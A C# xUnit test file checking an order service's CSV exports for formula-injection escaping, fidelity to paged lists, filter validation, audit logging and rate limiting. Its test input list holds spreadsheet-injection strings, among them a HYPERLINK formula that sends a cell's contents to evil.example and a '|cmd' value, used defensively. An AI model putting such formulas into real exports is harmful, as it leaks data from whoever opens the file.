using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using OrderCenter.Alerts;
using OrderCenter.Domain;
using OrderCenter.Payments.Notifications;
using OrderCenter.Persistence;
using OrderCenter.ProviderSync;
using OrderCenter.Tests.Operators;
using OrderCenter.Tests.Reconciliation;
using OrderCenter.Tests.Support;

namespace OrderCenter.Tests.Api;

/// <summary>contract.md, "Finding, counting, live": every list as CSV.</summary>
public sealed class ExportTests(Service service) : IClassFixture<Service>
{
    /// <summary>What breaks careless CSV, and what a spreadsheet would run.</summary>
    private static readonly string[] s_texts =
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", "\u0085x", "\u007fx", "\u001bx", "a,b", "\"", "\"\"", "a\"b", "a\r\nb", "a\nb", "a\rb", "😀", "\u2028", "\u2029",
        "'", "'=1", " =1", "a=1", "中文，“引号”", "\ufeffx", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", ",", ";", "|cmd", "\u202eabc",
    ];

    private static CancellationToken Now => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Every_text_comes_back_whole_and_none_can_be_run()
    {
        var game = await service.NewGameAsync();
        var made = new Dictionary<string, string>(StringComparer.Ordinal);
        foreach (var text in s_texts)
        {
            var order = Native.NewOrder(game.GameId, text);
            (order["productName"], order["userId"], order["productId"], order["extra"]) = (text, text, text, new { text });
            made[await service.CreateAsync(order)] = text;
        }
        var (columns, rows) = await ReadAsync("/orders.csv?gameId=" + game.GameId);
        Assert.Equal(s_texts.Length, rows.Count);
        foreach (var row in rows)
        {
            var text = made[row[columns["orderId"]]];
            foreach (var column in new[] { "merchantOrderId", "productName", "userId", "productId" })
            {
                var cell = row[columns[column]];
                var isUnsafe = "=+-@＝＋－＠".Contains(text[0], StringComparison.Ordinal) || char.IsControl(text[0]);
                Assert.Equal(isUnsafe ? "'" + text : text, cell);
            }
            Assert.Equal(text, JsonDocument.Parse(row[columns["attributes"]]).RootElement.GetProperty("extra").GetProperty("text").GetString());
            Assert.All(row, cell => Assert.False(cell.Length > 0 && ("=+-@＝＋－＠".Contains(cell[0], StringComparison.Ordinal) || char.IsControl(cell[0])), cell));
        }
    }

    [Fact]
    public async Task The_orders_are_those_of_the_list_in_its_order_with_its_values()
    {
        var game = await service.NewGameAsync(new { callbackUrl = "http://127.0.0.1:9/c" });
        for (var i = 0; i < 23; i++)
        {
            var id = await service.CreateAsync(Native.NewOrder(game.GameId, i % 2 == 0 ? null : "m" + i));
            if (i % 3 == 0)
            {
                await service.ActAsync(id, "paid", new { channel = "bank", transactionId = "T" + id, money = "6.5", currency = "CNY" });
            }
            if (i % 5 == 0)
            {
                service.Clock.Advance(TimeSpan.FromMilliseconds(7));
            }
        }
        foreach (var query in new[] { "", "&payState=paid", "&state=created", "&merchantOrderId=m7", "&moneyFrom=7", "&from=2026-01-01T00:00:00Z&to=2030-01-01T00:00:00Z", "&test=false&channel=bank" })
        {
            var listed = await PagesAsync("orders?limit=5&gameId=" + game.GameId + query);
            var (columns, rows) = await ReadAsync($"/orders.csv?gameId={game.GameId}{query}");
            Assert.Equal((query, listed.Count), (query, rows.Count));
            foreach (var (order, row) in listed.Zip(rows))
            {
                foreach (var (name, column) in columns)
                {
                    var expected = name switch
                    {
                        "paymentChannel" => Text(order.GetProperty("payment"), "channel"),
                        "transactionId" or "storeOrderId" or "environment" => Text(order.GetProperty("payment"), name),
                        "paidMoney" => Text(order.GetProperty("payment"), "money"),
                        "paidCurrency" => Text(order.GetProperty("payment"), "currency"),
                        "purchasedAt" => Text(order.GetProperty("payment"), "purchasedAt"),
                        "attributes" => "",
                        _ => Text(order, name),
                    };
                    Assert.Equal((name, Same(expected)), (name, Same(row[column])));
                }
            }
        }
    }

    [Fact]
    public async Task The_other_lists_have_the_items_of_their_pages()
    {
        var ledger = await Ledger.NewAsync(service, new { callbackUrl = "http://127.0.0.1:9/c" });
        var (id, _) = await ledger.PayAsync("bank");
        await ledger.PayAsync("bank");
        var store = service.Services.GetRequiredService<NotificationStore>();
        var raw = new RawNotification(new Dictionary<string, string>(StringComparer.Ordinal), "{}"u8.ToArray(), service.Clock.GetUtcNow().ToUnixTimeMilliseconds());
        await store.InsertAsync("google", long.Parse(ledger.GameId, CultureInfo.InvariantCulture), "=n1", raw, []);
        await ledger.ReconcileAsync("alipay", ledger.Statement("alipay", [ledger.Sale(Ledger.NewNumber("5"))]));
        await service.NewTokenAsync("viewer");
        await Person.MakeAsync(service, "viewer");
        Assert.Equal("'=n1", (await ReadAsync("/notifications.csv?gameId=" + ledger.GameId)).Rows.Single()[3]);
        foreach (var (list, key) in new[] { ("callbacks", "id"), ("notifications", "id"), ("reconciliations", "id"), ("apps", "gameId"), ("operators", "name"), ("tokens", "id"), ("audit", "id") })
        {
            var (columns, rows) = await ReadAsync($"/{list}.csv");
            var listed = (await PagesAsync(list + "?limit=7")).Select(item => Text(item, key)).ToList();

            // Whoever exports the audit log is in it afterwards.
            listed = list == "audit" ? [.. listed.Skip(1)] : listed;
            Assert.NotEmpty(rows);
            Assert.Equal((list, string.Join(' ', listed)), (list, string.Join(' ', rows.Select(row => row[columns[key]]))));
        }
        var callback = (await ReadAsync($"/callbacks.csv?gameId={ledger.GameId}&endpoint=http://127.0.0.1:9/anything")).Rows;
        Assert.Equal(2, callback.Count);
        Assert.Contains(callback, row => row[1] == id);
        var all = string.Concat((await ReadAsync("/apps.csv")).Rows.SelectMany(row => row)) + string.Concat((await ReadAsync("/tokens.csv")).Rows.SelectMany(row => row));
        Assert.DoesNotContain("B8899E2039DF87E2", all, StringComparison.Ordinal);
        Assert.DoesNotContain("oct_", all, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_alerts_are_those_of_the_list_and_no_text_of_theirs_can_be_run()
    {
        var game = await service.NewGameAsync();
        var gameId = long.Parse(game.GameId, CultureInfo.InvariantCulture);
        var nowMs = service.Clock.GetUtcNow().ToUnixTimeMilliseconds();
        await service.Services.GetRequiredService<Database>().WriteAsync(
            async transaction =>
            {
                for (var i = 0; i < 9; i++)
                {
                    await AlertTable.OpenAsync(transaction, new Alert
                    {
                        Id = AlertWriter.NewId(nowMs + i), Condition = AlertConditions.CallbacksWaiting.Name, Subject = $"={i} of {gameId}", GameId = gameId,
                        Severity = AlertSeverity.Warning, Value = i, Threshold = 1, RaisedMs = nowMs + i, SeenMs = nowMs, Told = 1,
                    });
                }
                return true;
            },
            Now);
        var filter = $"condition=callbacks.waiting&gameId={game.GameId}";
        var (columns, rows) = await ReadAsync("/alerts.csv?" + filter);
        var listed = await PagesAsync("alerts?limit=4&" + filter);
        Assert.Equal(9, rows.Count);
        Assert.Equal(listed.Select(item => Text(item, "id")), rows.Select(row => row[columns["id"]]));
        Assert.All(rows, row => Assert.StartsWith("'=", row[columns["subject"]], StringComparison.Ordinal));
        Assert.All(rows, row => Assert.Equal(("warning", game.GameId), (row[columns["severity"]], row[columns["gameId"]])));
    }

    [Fact]
    public async Task Callbacks_are_found_by_endpoint_status_of_an_answer_and_time()
    {
        var game = await service.NewGameAsync(new { callbackUrl = "http://127.0.0.1:9/c" });
        var at = service.Clock.GetUtcNow();
        var ids = new List<string>();
        for (var i = 0; i < 3; i++)
        {
            var order = Native.NewOrder(game.GameId);
            order["notifyUrl"] = i == 2 ? "https://Other.example/x" : null;
            var id = await service.CreateAsync(order);
            await service.ActAsync(id, "paid", new { channel = "bank", transactionId = "T" + id, money = "6.5", currency = "CNY" });
            ids.Add(id);
            service.Clock.Advance(TimeSpan.FromMilliseconds(10));
        }
        var store = service.Services.GetRequiredService<Database>();
        await store.WriteAsync(
            transaction => transaction.ExecuteAsync(
                "INSERT INTO callback_attempts (order_id, callback_number, number, started_ms, duration_ms, http_status) SELECT order_id, number, 99, 1, 1, 503 FROM callbacks WHERE order_id = $1", ids[0]), Now);
        async Task FindsAsync(string query, params string[] expected) => Assert.Equal(
            (query, string.Join(',', expected.Order(StringComparer.Ordinal))),
            (query, string.Join(',', (await PagesAsync($"callbacks?gameId={game.GameId}&{query}")).Select(callback => Text(callback, "orderId")).Order(StringComparer.Ordinal))));
        await FindsAsync("endpoint=http://127.0.0.1:9", ids[0], ids[1]);
        await FindsAsync("endpoint=HTTP://127.0.0.1:9/any/path?x=y", ids[0], ids[1]);
        await FindsAsync("endpoint=https://other.example:443", ids[2]);
        await FindsAsync("endpoint=https://other.example:444");
        await FindsAsync("httpStatus=503", ids[0]);
        await FindsAsync("httpStatus=500");
        await FindsAsync($"from={at.AddMilliseconds(10):yyyy-MM-ddTHH:mm:ss.fffZ}", ids[1], ids[2]);
        await FindsAsync($"to={at.AddMilliseconds(20):yyyy-MM-ddTHH:mm:ss.fffZ}&endpoint=http://127.0.0.1:9", ids[0], ids[1]);
        Assert.Contains(await PagesAsync("callbacks?endpoint=https://other.example"), callback => Text(callback, "orderId") == ids[2]);
    }

    [Theory]
    [InlineData("callbacks?endpoint=game.example")]
    [InlineData("callbacks?endpoint=ftp://game.example")]
    [InlineData("callbacks?httpStatus=99")]
    [InlineData("callbacks?httpStatus=600")]
    [InlineData("callbacks?httpStatus=2xx")]
    [InlineData("callbacks?from=yesterday")]
    [InlineData("callbacks.csv?status=gone")]
    [InlineData("orders.csv?state=gone")]
    [InlineData("orders.csv?limit=5")]
    [InlineData("orders.csv?cursor=x")]
    [InlineData("audit.csv?action=A")]
    [InlineData("notifications.csv?state=x")]
    [InlineData("reconciliations.csv?open=yes")]
    [InlineData("apps.csv?limit=1")]
    [InlineData("alerts.csv?state=x")]
    public async Task A_wrong_filter_is_refused_before_anything_is_sent(string path)
    {
        using var response = await service.SendAsync(HttpMethod.Get, "/api/v1/" + path);
        var problem = await Native.AssertProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.Equal(path.Split('?', '=')[1], problem.GetProperty("errors")[0].GetProperty("field").GetString());
    }

    [Fact]
    public async Task An_export_is_written_down_with_its_filters_and_who_made_it()
    {
        var game = await service.NewGameAsync();
        using var person = await Person.NewAsync(service, "finance");
        using (var response = await person.SendAsync(HttpMethod.Get, $"/orders.csv?gameId={game.GameId}&userId=%E5%BC%A0%22", null, isPlain: false))
        {
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var disposition = response.Content.Headers.ContentDisposition!;
            Assert.Equal("attachment", disposition.DispositionType);
            Assert.Matches("^orders-[0-9]{8}-[0-9]{6}\\.csv$", disposition.FileName!.Trim('"'));
            Assert.True(response.Headers.CacheControl?.NoStore);
        }
        var entry = Assert.Single(await PagesAsync($"audit?actor={person.Name}&action=orders.export"));
        Assert.Equal((game.GameId, person.Name, "finance"), (entry.GetProperty("gameId").GetRawText(), Text(entry, "actor"), Text(entry, "role")));
        Assert.Equal($$"""{"gameId":"{{game.GameId}}","userId":"张\""}""", Text(entry, "to"));

        // One that is refused is none.
        using var refused = await person.SendAsync(HttpMethod.Get, "/orders.csv?state=x", null, isPlain: false);
        using var beyond = await person.SendAsync(HttpMethod.Get, "/tokens.csv", null, isPlain: false);
        Assert.Equal((HttpStatusCode.BadRequest, HttpStatusCode.Forbidden), (refused.StatusCode, beyond.StatusCode));
        Assert.Single(await PagesAsync($"audit?actor={person.Name}&action=orders.export"));
        Assert.Empty(await PagesAsync($"audit?actor={person.Name}&action=tokens.export"));
    }

    [Fact]
    public async Task Differences_are_written_down_too()
    {
        var ledger = await Ledger.NewAsync(service);
        var found = await ledger.ReconcileAsync("alipay", ledger.Statement("alipay", [ledger.Sale(Ledger.NewNumber("5"))]));
        var (columns, rows) = await ReadAsync($"/reconciliations/{found.Id}/differences.csv?kind=missingHere");
        Assert.Equal("missingHere", Assert.Single(rows)[columns["kind"]]);
        var entry = Assert.Single(await PagesAsync($"audit?gameId={ledger.GameId}&action=differences.export"));
        Assert.Equal((found.Id, """{"kind":"missingHere"}"""), (Text(entry, "target"), Text(entry, "to")));
    }

    [Fact]
    public async Task An_export_that_breaks_off_ends_with_its_connection()
    {
        await using var broken = new Service();
        await broken.InitializeAsync();
        var game = await broken.NewGameAsync();
        var id = await broken.CreateAsync(Native.NewOrder(game.GameId));
        var store = broken.Services.GetRequiredService<Database>();

        // More than a part, and at its end an order whose attributes are no JSON.
        await store.WriteAsync(
            async transaction =>
            {
                for (var i = 0; i < 1500; i++)
                {
                    await transaction.ExecuteAsync(
                        "INSERT INTO orders (order_id, game_id, product_id, product_name, amount_e4, currency, user_id, quantity, attributes, created_ms, expires_ms) " +
                        "VALUES ($1, $2, 'p', '', 1, 'CNY', 'u', 1, $3, $4, 1)",
                        $"9{i:D5}", long.Parse(game.GameId), i == 1400 ? "{" : null, 100_000L - i);
                }
                return true;
            }, Now);
        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/orders.csv");
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", Service.Token);
        using var response = await broken.Http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, Now);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        await Assert.ThrowsAnyAsync<Exception>(async () => await response.Content.ReadAsStringAsync(Now));
        Assert.Equal("paid", Native.StateOf((await broken.ActAsync(id, "paid", new { channel = "bank", transactionId = "T" })).Json).Pay);
    }

    [Fact]
    public async Task Too_many_at_once_are_told_to_come_back()
    {
        var game = await service.NewGameAsync();
        for (var i = 0; i < 3; i++)
        {
            var order = Native.NewOrder(game.GameId);
            order["extra"] = new { text = new string('x', 4000) };
            await service.CreateAsync(order);
        }
        var answers = await Task.WhenAll(Enumerable.Range(0, 40).Select(async _ =>
        {
            using var response = await service.SendAsync(HttpMethod.Get, "/api/v1/orders.csv?gameId=" + game.GameId);
            return (response.StatusCode, response.Headers.RetryAfter?.ToString());
        }));
        Assert.All(answers, answer => Assert.True(answer is (HttpStatusCode.OK, null) or (HttpStatusCode.TooManyRequests, "10"), answer.ToString()));
        Assert.Contains(answers, answer => answer.StatusCode == HttpStatusCode.OK);
        using var after = await service.SendAsync(HttpMethod.Get, "/api/v1/orders.csv?gameId=" + game.GameId);
        Assert.Equal(HttpStatusCode.OK, after.StatusCode);
    }

    private static string Text(JsonElement item, string name) =>
        item.ValueKind == JsonValueKind.Null ? "" : item.GetProperty(name) is var value && value.ValueKind == JsonValueKind.Null ? "" : value.ValueKind == JsonValueKind.String ? value.GetString()! : value.GetRawText();

    /// <summary>A time by its instant: JSON leaves out zeros at its end.</summary>
    private static string Same(string text) =>
        text.Length >= 20 && text[^1] == 'Z' && DateTimeOffset.TryParse(text, CultureInfo.InvariantCulture, out var time) ? time.ToUnixTimeMilliseconds().ToString(CultureInfo.InvariantCulture) : text;

    private async Task<(Dictionary<string, int> Columns, List<List<string>> Rows)> ReadAsync(string path)
    {
        using var response = await service.SendAsync(HttpMethod.Get, "/api/v1" + path);
        var bytes = await response.Content.ReadAsByteArrayAsync(Now);
        Assert.True(response.StatusCode == HttpStatusCode.OK, Encoding.UTF8.GetString(bytes));
        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType?.ToString());
        var records = Csv.Read(bytes);
        return (records[0].Select((name, i) => (name, i)).ToDictionary(column => column.name, column => column.i, StringComparer.Ordinal), records[1..]);
    }

    private async Task<List<JsonElement>> PagesAsync(string path)
    {
        var (items, cursor) = (new List<JsonElement>(), "");
        do
        {
            var page = await service.GetAsync($"/{path}{cursor}");
            items.AddRange(page.GetProperty("items").EnumerateArray());
            cursor = page.GetProperty("nextCursor").GetString() is { } next ? $"{(path.Contains('?', StringComparison.Ordinal) ? '&' : '?')}cursor={next}" : "";
        }
        while (cursor.Length > 0);
        return items;
    }
}
